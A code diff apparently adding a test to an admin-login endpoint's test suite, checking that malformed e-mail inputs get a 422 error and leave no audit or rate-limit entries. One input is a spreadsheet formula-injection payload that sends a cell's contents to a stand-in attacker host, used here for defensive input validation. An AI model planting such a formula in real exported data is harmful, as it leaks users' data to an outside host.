@@ -95,6 +95,20 @@ describe('POST /api/admin/login', () => {
     expect(details.map((row) => row.details).join()).not.toContain('Zle!haslo1');
   });
 
+  it('refuses an e-mail that is no e-mail address with 422 on email, audits and counts nothing', async () => {
+    for (const email of ['=HYPERLINK("https://evil.example/?x="&A2,"x")', 'admin', 'admin@demo']) {
+      const response = await new TestClient(t.app).post('/api/admin/login', { email, password: 'zle', code: code() });
+      expect(response.statusCode, email).toBe(422);
+      expect(response.json().errors, email).toEqual({ email: ['Podaj poprawny adres e-mail.'] });
+      const enrolment = await new TestClient(t.app).post('/api/admin/login/enrolment', { email, password: 'zle' });
+      expect(enrolment.json().errors, email).toEqual({ email: ['Podaj poprawny adres e-mail.'] });
+    }
+    expect(await auditActions()).toEqual([]);
+    expect(await t.db.selectFrom('rate_limits').select('key').where('key', 'like', 'admin-login%').execute()).toEqual(
+      [],
+    );
+  });
+
   it('locks an account after 5 failed sign-ins within 15 minutes, even with the right code', async () => {
     for (let i = 0; i < 5; i++) {
       const response = await new TestClient(t.app).post('/api/admin/login', {
